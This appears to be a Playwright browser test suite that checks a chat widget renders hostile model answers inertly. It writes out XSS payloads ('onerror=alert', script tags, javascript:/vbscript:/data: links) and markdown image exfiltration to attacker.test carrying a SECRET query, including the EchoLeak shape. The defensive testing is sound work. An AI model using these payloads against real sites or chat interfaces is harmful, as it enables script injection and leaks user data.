/**
 * Hardening suite, section A of reliability.md: untrusted output, in real Chromium against
 * dist/codegpt-widget.iife.js. Hostile answers are streamed through `mount({ fetch })` with a
 * synthetic SSE response built in the page (fast: one page, hundreds of answers), plus a handful
 * through the real server path. After every answer the invariants of `__hx.check()` hold (see
 * helpers/harness.ts): no dialog stub called, no `window.__xss`, no `on*`/`style` attribute, no URL
 * other than http(s)/mailto, no script/iframe/object/embed/style/form/base/meta/svg/math element,
 * and rendered markdown only uses a fixed set of elements and attributes.
 *
 * Not here: firefox and webkit (reliability.md asks for all three; only Chromium can be installed on
 * this machine), and A3's PortSwigger vectors, which must be fetched at test time (no network here:
 * the test runs when `XSS_PORTSWIGGER_VECTORS` names a downloaded copy). Long-task figures are
 * printed, never asserted (no wall-clock assertions).
 */
import type { Browser, BrowserContext, Page, Request } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { startDemoServer } from '../../demo/server';
import { describeBrowser, lastAnswer, launchChromium, loadWidget, newPage, type PageWatch } from './helpers/browser';
import { checkInvariants, corpusFailures, installHarness, loadDomPurifyPayloads, longTasks, mountSynthetic, runCorpus } from './helpers/harness';
import { MARKDOWN_PAYLOADS } from './helpers/markdown-payloads';

type Server = Awaited<ReturnType<typeof startDemoServer>>;

const TRUNCATED = 'This answer was too long and has been cut short.';

describeBrowser('hardening A: untrusted output in Chromium (dist/codegpt-widget.iife.js)', () => {
  let server: Server;
  let browser: Browser;
  let domPurify: string[];

  beforeAll(async () => {
    [server, browser, domPurify] = await Promise.all([startDemoServer({ port: 0 }), launchChromium(), loadDomPurifyPayloads()]);
  });
  afterAll(async () => {
    await browser?.close();
    await server?.close();
  });

  /** A page with the harness and the bundle loaded (no script-tag config), recording every request after load. */
  async function corpusPage(): Promise<{ context: BrowserContext; page: Page; watch: PageWatch; requests: Request[] }> {
    const env = await newPage(browser);
    await installHarness(env.page);
    await loadWidget(env.page, server.url, {});
    const requests: Request[] = [];
    env.page.on('request', (r) => requests.push(r));
    return { ...env, requests };
  }

  it('A2: all 223 DOMPurify payloads streamed as answers run no script and stay literal text', async () => {
    expect(domPurify).toHaveLength(223);
    const { page, context, watch, requests } = await corpusPage();
    await mountSynthetic(page);
    const results = await runCorpus(page, domPurify);
    expect(results.filter((r) => r.i >= 0)).toHaveLength(223);
    expect(corpusFailures(results, domPurify)).toEqual([]);
    // HTML is disabled: a payload's first tag is shown as text, not parsed away.
    const eaten = results.filter((r) => {
      const tag = /<([a-z][a-z0-9-]*)/i.exec(domPurify[r.i] ?? '');
      return tag && !r.text.toLowerCase().includes(`<${tag[1]!.toLowerCase()}`);
    });
    expect(eaten.map((r) => domPurify[r.i]!.slice(0, 80))).toEqual([]);
    // Not one request: no payload made the page load an image, a frame or a stylesheet.
    expect(requests.map((r) => r.url())).toEqual([]);
    expect(watch.errors).toEqual([]);
    console.info(`[A2] long tasks during the DOMPurify run (ms): ${JSON.stringify(await longTasks(page))}`);
    await context.close();
  });

  it(`A1/A4/A5/A7/A8: ${MARKDOWN_PAYLOADS.length} markdown payloads (script URLs, autolinks, references, images, nesting) run no script and make no request`, async () => {
    expect(MARKDOWN_PAYLOADS.length).toBeGreaterThanOrEqual(40);
    const { page, context, watch, requests } = await corpusPage();
    await page.route(/attacker\.test/, (route) => route.abort());
    await mountSynthetic(page, { imageHosts: ['cdn.allowed.test'] });
    const results = await runCorpus(page, MARKDOWN_PAYLOADS);
    expect(corpusFailures(results, MARKDOWN_PAYLOADS)).toEqual([]);
    expect(requests.map((r) => r.url())).toEqual([]);
    expect(watch.errors).toEqual([]);
    await context.close();
  });

  it('A1/A2 through the ESM build: mount() from dist/codegpt-widget.js renders the markdown corpus and a DOMPurify sample inertly', async () => {
    const { page, context, watch, requests } = await corpusPage();
    await page.route(/attacker\.test/, (route) => route.abort());
    await mountSynthetic(page, { imageHosts: ['cdn.allowed.test'] }, true);
    const corpus = [...MARKDOWN_PAYLOADS, ...domPurify.slice(0, 60)];
    const results = await runCorpus(page, corpus);
    expect(corpusFailures(results, corpus)).toEqual([]);
    expect(requests.map((r) => r.url()).filter((u) => !u.endsWith('/dist/codegpt-widget.js'))).toEqual([]);
    expect(watch.errors).toEqual([]);
    await context.close();
  });

  it.skipIf(!process.env.XSS_PORTSWIGGER_VECTORS)('A3: the PortSwigger cheat-sheet vectors (a JSON array of strings at $XSS_PORTSWIGGER_VECTORS) run no script', async () => {
    // A3 wants the 1,224 vectors fetched at test time and never vendored; this machine has no
    // network, so the case runs only where a fetched copy is given (e.g. a CI step downloads it).
    const { readFile } = await import('node:fs/promises');
    const vectors = JSON.parse(await readFile(process.env.XSS_PORTSWIGGER_VECTORS!, 'utf8')) as string[];
    expect(vectors.length).toBeGreaterThan(1000);
    const { page, context, watch } = await corpusPage();
    await mountSynthetic(page);
    const results = await runCorpus(page, vectors);
    expect(corpusFailures(results, vectors)).toEqual([]);
    expect(watch.errors).toEqual([]);
    await context.close();
  });

  it('A1/A2 through the real server path: payloads echoed by the mock in 1–7-byte fragments stay inert text', async () => {
    const { page, context, watch } = await newPage(browser);
    await installHarness(page);
    const requests: string[] = [];
    page.on('request', (r) => requests.push(r.url()));
    await loadWidget(page, server.url, { 'agent-id': 'mock-split', 'token-endpoint': '/dev/token?key=a-real', persist: 'none' });
    await page.locator('[part="launcher"]').click();
    // [question, text the echoed answer must show literally]
    const payloads: [string, string][] = [
      ['<img src=x onerror=alert(1)>', '<img src=x onerror=alert(1)>'],
      ['<script>window.__xss=1</script>', '<script>'],
      ['[a](javascript:window.__xss=1)', 'a'],
      ['![x](https://attacker.test/p.png?q=SECRET)', 'attacker.test'],
      ['<svg onload=alert(1)><math><style><img src=x onerror=alert(2)>', '<svg onload=alert(1)><math><style><img'],
      [domPurify[0]!.slice(0, 90), '<svg><image'],
    ];
    for (const [payload, literal] of payloads) {
      await page.locator('[part="input"]').fill(payload);
      await page.keyboard.press('Enter');
      const answer = await lastAnswer(page);
      expect(answer.state).toBe('done');
      expect(answer.text).toContain(literal);
      expect(await checkInvariants(page)).toEqual([]);
    }
    const foreign = requests.filter((u) => !u.startsWith(server.url));
    expect(foreign).toEqual([]);
    expect(requests.filter((u) => /\/x$/.test(u))).toEqual([]);
    expect(watch.errors).toEqual([]);
    await context.close();
  });

  it('A4/A5: a non-allow-listed image, inline or reference-style, makes zero requests; inline shows a link naming the host', async () => {
    const { page, context, watch, requests } = await corpusPage();
    await page.route(/attacker\.test/, (route) => route.abort());
    await mountSynthetic(page);
    await runCorpus(page, ['![x](https://attacker.test/p.png?q=SECRET)', '![a][r]\n\n[r]: https://attacker.test/?d=SECRET']);
    expect(requests.map((r) => r.url())).toEqual([]);
    const rendered = await page.evaluate(() => {
      const contents = document.querySelector('codegpt-chat')!.shadowRoot!.querySelectorAll('[part~="assistant"] [part="content"]');
      return Array.from(contents).map((c) => ({
        imgs: c.querySelectorAll('img').length,
        links: Array.from(c.querySelectorAll('a')).map((a) => ({ href: a.getAttribute('href'), text: a.textContent })),
        text: c.textContent,
      }));
    });
    expect(rendered).toHaveLength(2);
    // A4: a click-to-load link to the image, showing its host.
    expect(rendered[0]).toEqual({ imgs: 0, links: [{ href: 'https://attacker.test/p.png?q=SECRET', text: expect.stringContaining('attacker.test') }], text: expect.stringContaining('attacker.test') });
    // A5 (EchoLeak shape): never an image; if the renderer links it at all, the link names the host.
    expect(rendered[1]!.imgs).toBe(0);
    for (const link of rendered[1]!.links) expect(link.text).toContain('attacker.test');
    expect(watch.errors).toEqual([]);
    await context.close();
  });

  it('A6: with an allow-listed image host, only that image loads, without a referrer', async () => {
    const { page, context, watch, requests } = await corpusPage();
    const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
    await page.route('https://img.allowed.test/**', (route) => route.fulfill({ status: 200, contentType: 'image/png', body: PNG }));
    await page.route(/attacker\.test/, (route) => route.abort());
    await mountSynthetic(page, { imageHosts: ['img.allowed.test'] });
    await runCorpus(page, ['![ok](https://img.allowed.test/ok.png) and ![bad](https://attacker.test/bad.png?d=SECRET)']);
    const img = page.locator('[part="content"] img');
    await expect.poll(() => img.evaluate((el: HTMLImageElement) => el.complete && el.naturalWidth)).toBe(1);
    expect(await img.count()).toBe(1);
    expect(await img.getAttribute('src')).toBe('https://img.allowed.test/ok.png');
    expect(await img.getAttribute('referrerpolicy')).toBe('no-referrer');
    expect(requests.map((r) => r.url())).toEqual(['https://img.allowed.test/ok.png']);
    const headers = await requests[0]!.allHeaders();
    expect(headers.referer).toBeUndefined();
    expect(await page.locator('[part="content"] a').getAttribute('href')).toBe('https://attacker.test/bad.png?d=SECRET');
    expect(watch.errors).toEqual([]);
    await context.close();
  });

  it('A7: a data: SVG image and a data:text/html link are not clickable and navigate nowhere', async () => {
    const { page, context, watch } = await corpusPage();
    await mountSynthetic(page);
    const results = await runCorpus(page, [
      '![s](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0id2luZG93Ll9feHNzPTEiLz4=) and [x](data:text/html,<script>window.__xss=1</script>)',
    ]);
    expect(corpusFailures(results, ['A7'])).toEqual([]);
    const content = page.locator('[part~="assistant"] [part="content"]').last();
    expect(await content.locator('a, img').count()).toBe(0);
    const before = page.url();
    await content.click();
    await content.getByText('x', { exact: true }).click().catch(() => undefined);
    await page.waitForTimeout(200);
    expect(page.url()).toBe(before);
    expect(context.pages()).toHaveLength(1);
    expect(await checkInvariants(page)).toEqual([]);
    expect(watch.errors).toEqual([]);
    await context.close();
  });

  it('A8: http(s) and mailto links open in a new tab with no opener; protocol-relative is an ordinary link; tel/vbscript/file are not clickable', async () => {
    const { page, context, watch } = await corpusPage();
    await context.route('https://ok.test/**', (route) => route.fulfill({ status: 200, contentType: 'text/html', body: '<!doctype html><title>ok</title>' }));
    await mountSynthetic(page);
    await runCorpus(page, ['[a](https://ok.test) [b](HTTPS://ok.test/B) [c](//evil.test/c) [d](mailto:x@ok.test) [e](tel:+15550100) [f](vbscript:msgbox(1)) [g](file:///etc/passwd)']);
    const links = await page.locator('[part="content"] a').evaluateAll((as) =>
      as.map((a) => ({ text: a.textContent, href: a.getAttribute('href'), target: a.getAttribute('target'), rel: a.getAttribute('rel') })),
    );
    const rel = 'noopener noreferrer';
    const page1 = new URL(server.url).protocol;
    expect(links).toEqual([
      { text: 'a', href: 'https://ok.test/', target: '_blank', rel },
      { text: 'b', href: 'https://ok.test/B', target: '_blank', rel },
      { text: 'c', href: `${page1}//evil.test/c`, target: '_blank', rel },
      { text: 'd', href: 'mailto:x@ok.test', target: '_blank', rel },
    ]);
    const text = await page.locator('[part="content"]').last().textContent();
    for (const t of ['e', 'f', 'g']) expect(text).toContain(t);
    const [popup] = await Promise.all([context.waitForEvent('page'), page.locator('[part="content"] a', { hasText: 'a' }).first().click()]);
    await popup.waitForLoadState();
    expect(popup.url()).toBe('https://ok.test/');
    expect(await popup.evaluate(() => window.opener)).toBeNull();
    expect(watch.errors).toEqual([]);
    await context.close();
  });

  it('A11: 10,000 nested > and [, a 2 MB code fence and a 200k-character line complete, stay bounded and leave the page responsive', async () => {
    const { page, context, watch } = await corpusPage();
    await mountSynthetic(page);
    const line = 'lorem ipsum dolor sit amet '.repeat(7408).slice(0, 200_000);
    const fenceLine = 'const value = "0123456789abcdefghijklmnopqrstuvwxyz";\n';
    const fence = '```js\n' + fenceLine.repeat(Math.ceil((2 * 1024 * 1024) / fenceLine.length)) + '```\n';
    const inputs: Record<string, string> = {
      'nested >': '>'.repeat(10_000) + ' deep',
      'nested [': '['.repeat(10_000) + 'deep',
      'nested mixed': '> - [*'.repeat(2_000) + 'deep',
      '2 MB fence': fence,
      '200k line': line + ' and then some more text past the cap',
    };
    const figures: Record<string, { ms: number; length: number }> = {};
    for (const [name, input] of Object.entries(inputs)) {
      const result = await page.evaluate(async (text) => {
        const g = window as unknown as {
          __hx: { queue: (() => Response)[]; sse(chunks: string[]): Response };
          __widget: { send(t: string): Promise<void>; reset(): void; element: HTMLElement };
        };
        g.__widget.reset();
        const chunks: string[] = [];
        for (let i = 0; i < text.length; i += 65_536) chunks.push(text.slice(i, i + 65_536));
        g.__hx.queue.push(() => g.__hx.sse(chunks));
        const started = performance.now();
        await g.__widget.send('giant');
        const ms = performance.now() - started;
        await new Promise((r) => setTimeout(r, 0));
        const el = g.__widget.element.shadowRoot!.querySelector('[part~="assistant"][data-state]')!;
        return { state: el.getAttribute('data-state'), text: el.querySelector('[part="content"]')!.textContent ?? '', ms };
      }, input);
      expect(result.state, name).toBe('done');
      // Bounded: never more than the 200k cap plus the notice.
      expect(result.text.length, name).toBeLessThanOrEqual(200_000 + TRUNCATED.length);
      if (input.length > 200_000) expect(result.text, name).toContain(TRUNCATED);
      else expect(result.text, name).not.toContain(TRUNCATED);
      // Still responsive: a round trip into the page works and the widget still accepts input.
      expect(await page.evaluate(() => 1 + 1)).toBe(2);
      figures[name] = { ms: Math.round(result.ms), length: result.text.length };
    }
    await page.locator('[part="input"]').fill('still typing');
    expect(await page.locator('[part="input"]').inputValue()).toBe('still typing');
    expect(await checkInvariants(page)).toEqual([]);
    expect(watch.errors).toEqual([]);
    console.info(`[A11] time to done per input (ms) and rendered length: ${JSON.stringify(figures)}; long tasks (ms): ${JSON.stringify(await longTasks(page))}`);
    await context.close();
  });

  it('a 60 kB answer that arrives in one burst is shown over several frames, at most 4,096 characters a frame, and ends done', async () => {
    const { page, context, watch } = await corpusPage();
    await mountSynthetic(page);
    const answer = 'word '.repeat(12_000).trim();
    const result = await page.evaluate(async (text) => {
      const g = window as unknown as {
        __hx: { queue: (() => Response)[]; sse(chunks: string[], options: Record<string, unknown>): Response };
        __widget: { send(t: string): Promise<void>; reset(): void; element: HTMLElement };
      };
      g.__widget.reset();
      // One SSE event per 10 characters, all in one network chunk: the whole answer is there at once.
      const events: string[] = [];
      for (let i = 0; i < text.length; i += 10) events.push(text.slice(i, i + 10));
      g.__hx.queue.push(() => g.__hx.sse(events, { cutEvery: 1 << 22 }));
      const root = g.__widget.element.shadowRoot!;
      const length = () => root.querySelector('[part~="assistant"][data-state] [part="content"]')?.textContent?.length ?? 0;
      // The length the visitor could see at each frame.
      const frames: number[] = [];
      let running = true;
      const watchFrames = () => {
        frames.push(length());
        if (running) requestAnimationFrame(watchFrames);
      };
      requestAnimationFrame(watchFrames);
      await g.__widget.send('burst');
      await new Promise((r) => requestAnimationFrame(r));
      running = false;
      const el = root.querySelector('[part~="assistant"][data-state]')!;
      return { frames, state: el.getAttribute('data-state'), text: el.querySelector('[part="content"]')!.textContent ?? '' };
    }, answer);
    expect(result.state).toBe('done');
    expect(result.text).toBe(answer);
    const steps = result.frames.slice(1).map((n, i) => n - result.frames[i]!).filter((d) => d > 0);
    expect(Math.max(...steps)).toBeLessThanOrEqual(4096);
    expect(steps.length).toBeGreaterThanOrEqual(Math.ceil(answer.length / 4096));
    expect(watch.errors).toEqual([]);
    await context.close();
  });
});
